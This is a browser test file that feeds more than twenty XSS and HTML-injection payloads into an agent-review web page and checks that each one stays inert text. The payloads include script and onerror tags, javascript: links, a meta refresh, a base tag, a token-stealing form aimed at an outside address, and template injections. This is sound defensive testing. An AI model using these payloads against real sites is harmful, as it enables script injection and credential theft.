/** Texts of agents and of a change are data: the page shows them as text, whatever they contain. */
import type { Page } from 'playwright-core';
import { runTabs } from '../../../web/src/route.ts';
import { addressOf, newFile, sharedServer, startRun, untilEnded } from '../served-page.ts';
import { test } from '../visitor.ts';

const picture = '<img src="x" onerror="window.taken=1" data-taken>';
const link = 'http://192.0.2.1/';

const attempts: readonly (readonly [string, string])[] = [
  ['a script element', '<script data-taken>window.taken=1</script>'],
  ['a picture whose error is a script', picture],
  ['a drawing that loads a script', '<svg data-taken onload="window.taken=1"><rect/></svg>'],
  ['a drawing with a script in it', '<svg data-taken><script>window.taken=1</script></svg>'],
  [
    'a frame with a document of its own',
    '<iframe data-taken srcdoc="<script>parent.taken=1</script>"></iframe>',
  ],
  ['a link that is a script', '[here](javascript:window.taken=1)'],
  [
    'a link that is a script, behind a tab',
    '[here](java\tscript:window.taken=1) <java\nscript:window.taken=1>',
  ],
  ['a link that is a document', '[here](data:text/html;base64,PHNjcmlwdD50YWtlbj0xPC9zY3JpcHQ+)'],
  ['a link by reference', '[here][1] [1]: javascript:window.taken=1'],
  ['an address that is a script', '<javascript:window.taken=1> <vbscript:window.taken=1>'],
  ['a picture of elsewhere', `![here](${link}pixel.png)`],
  ['a style sheet', `<style data-taken>@import url("${link}a.css"); #content { display: none }</style>`],
  [
    'a style of an element',
    `<p data-taken style="position:fixed;inset:0;background:url(${link}a.png)">over</p>`,
  ],
  ['a refresh to elsewhere', `<meta data-taken http-equiv="refresh" content="0;url=${link}">`],
  ['another base of all addresses', `<base data-taken href="${link}">`],
  [
    'a form to elsewhere',
    `<form data-taken action="${link}"><input name="token"><button>Log in</button></form>`,
  ],
  [
    'an element that opens by itself',
    '<details data-taken open ontoggle="window.taken=1"><summary>x</summary></details>',
  ],
  ['an end of the script and of the page', `</script></textarea></title></pre></code>--> ${picture}`],
  ['markup that mends itself', `<math data-taken><mtext><table><mglyph><style><!--</style>${picture}`],
  [
    'characters by number',
    '&lt;img src=x onerror=window.taken=1 data-taken&gt; &#60;script&#62;taken=1&#60;/script&#62;',
  ],
  [
    'an object and what it embeds',
    `<object data-taken data="${link}"></object><embed data-taken src="${link}">`,
  ],
  [
    'names that the page knows',
    '<a data-taken id="root" name="content">x</a><input data-taken name="fetch" id="taken">',
  ],
  [
    'words of a template',
    '{{constructor.constructor("window.taken=1")()}} ${window.taken=1} <%= window.taken=1 %>',
  ],
];

const world = sharedServer({
  turns: attempts.map(([, text], index) => ({
    when: { tag: '[REQUEST:REVIEW]', contains: `attempt-${index}.ts` },
    messages: [{ text }, { tool: { name: `Bash ${text}`, input: { command: text }, output: text } }],
    answer: answerWith(text, index),
  })),
});

test.for(attempts.map(([what, text], index) => [what, text, index] as const))(
  '%s stays text',
  async ([, text, index], { visitor: { page }, expect }) => {
    const served = world.served();
    const dialogs = refusalsOf(page);
    const run = [
      'hostile',
      await startRun(served, 'hostile', { kind: 'review', input: { diff: diffWith(text, index) } }),
    ] as const;
    expect(await untilEnded(served, run)).toBe('findings');
    for (const tab of runTabs) {
      await page.goto(addressOf(served, run, tab));
      await page.getByRole('tabpanel').waitFor();
      await unfoldAll(page);
      if (tab === 'review') await page.getByText(`src/attempt-${index}.ts`).first().waitFor();
      expect(await takenIn(page)).toEqual({ taken: null, elements: [] });
    }
    await page.goto(addressOf(served, run, 'review'));
    await page
      .getByText(text.split(/\s/)[0] ?? '')
      .first()
      .waitFor();
    await page.goto(`${served.url}/#/c/hostile`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await takenIn(page)).toEqual({ taken: null, elements: [] });
    expect(dialogs).toEqual([]);
  },
);

function diffWith(text: string, index: number): string {
  return newFile(`src/attempt-${index}.ts`, [`// ${text.replaceAll(/\s/g, ' ')}`, 'export {};']);
}

function answerWith(text: string, index: number): string {
  const line = text.replaceAll(/\s/g, ' ');
  return `[RESPONSE:REVIEW]

## STRENGTHS

- It is short. ${line}

## ISSUES

### Critical

1. **It is wrong ${line}** — \`src/attempt-${index}.ts:1\`
   \`\`\`
   // ${line}
   \`\`\`
   Why: as it stands. ${line}

   Fix: something else. ${line}

## SUGGESTIONS

- ${line}
`;
}

/** Opens every folded part, and the parts that appear inside it. */
async function unfoldAll(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (let left = 20; left > 0; left -= 1) {
      const folded = document.querySelectorAll<HTMLElement>(
        '#content :is(.fold-head, .file button)[aria-expanded="false"], #content details:not([open]) > summary',
      );
      if (folded.length === 0) return;
      for (const head of folded) head.click();
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    }
  });
}

/** Elements that foreign text created. */
function takenIn(page: Page): Promise<unknown> {
  return page.evaluate(() => {
    const more = [...document.querySelectorAll('*')].filter(
      (element) =>
        element.hasAttribute('data-taken') ||
        element.getAttributeNames().some((name) => name.startsWith('on')) ||
        /^(?:iframe|object|embed|base|style)$/i.test(element.tagName) ||
        (element instanceof HTMLAnchorElement && !/^(?:https?|mailto):$/.test(element.protocol)) ||
        (element instanceof HTMLImageElement && !element.src.startsWith(location.origin)) ||
        (element instanceof HTMLFormElement && element.hasAttribute('action')),
    );
    return {
      taken: Reflect.get(window, 'taken') ?? null,
      elements: more.map(({ outerHTML }) => outerHTML.slice(0, 200)),
    };
  });
}

/** Dialogs, and violations of the content-security policy: each means that a text became markup. */
function refusalsOf(page: Page): readonly string[] {
  const refusals: string[] = [];
  page.on('dialog', (dialog) => {
    refusals.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) refusals.push(message.text());
  });
  return refusals;
}
